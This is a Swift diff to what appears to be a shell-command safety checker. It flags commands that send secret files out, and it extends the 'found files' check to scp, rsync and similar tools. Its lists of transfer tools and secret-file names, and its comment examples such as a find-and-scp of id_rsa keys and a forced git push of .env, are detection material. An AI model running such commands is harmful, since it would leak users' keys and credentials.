@@ -16,7 +16,8 @@ enum Sending {
       if invocation.hasFlag("z") { return nil }
       return carriesSecret(invocation, script) ? .danger : readsInput(invocation) ? .caution : nil
     case "scp", "rsync", "sftp", "rclone", "lftp", "croc", "magic-wormhole", "wormhole":
-      return sendsCopy(invocation, script) ? .danger : copy(invocation)
+      return sendsCopy(invocation, script) || sendsFound(invocation, script) && copy(invocation) != nil
+        ? .danger : copy(invocation)
     case "ssh": return carriesSecret(invocation, script) ? .danger : readsInput(invocation) ? .caution : nil
     case "dig", "nslookup", "host", "ping":
       return carriesSecret(invocation, script) ? .danger : invocation.substituted.isEmpty ? nil : .caution
@@ -74,16 +75,20 @@ enum Sending {
     let readsFile =
       !["curl", "wget", "ssh"].contains(invocation.name ?? "")
       && invocation.operands.contains { SecretFile.isNamed($0.text) }
-    let sendsFound =
-      (invocation.takesFoundFiles || !Set(invocation.wrappers).isDisjoint(with: ["find", "xargs", "fd", "parallel"]))
+    return isFed || sendsFound(invocation, script) || namesSecretVariable(invocation, script)
+      || sendsCopy(invocation, script)
+      || namesSecret
+      || readsFile || readsSecret(invocation)
+  }
+
+  /// Whether it sends secret files that are looked for: `find / -name id_rsa -exec scp {} h: \;`.
+  private static func sendsFound(_ invocation: Invocation, _ script: InvocationCollector) -> Bool {
+    (invocation.takesFoundFiles || !Set(invocation.wrappers).isDisjoint(with: ["find", "xargs", "fd", "parallel"]))
       && script.invocations.count <= InvocationCollector.mostCompared
       && script.invocations.contains { finder in
         ["find", "fd", "fdfind", "locate", "grep"].contains(finder.name ?? "")
           && finder.ownArguments.contains { SecretFile.isNamed($0.text) || ["passwd", "shadow"].contains($0.text) }
       }
-    return isFed || sendsFound || namesSecretVariable(invocation, script) || sendsCopy(invocation, script)
-      || namesSecret
-      || readsFile || readsSecret(invocation)
   }
 
   /// Whether a secret file was added to what is pushed: `git add -f .env && git push`.
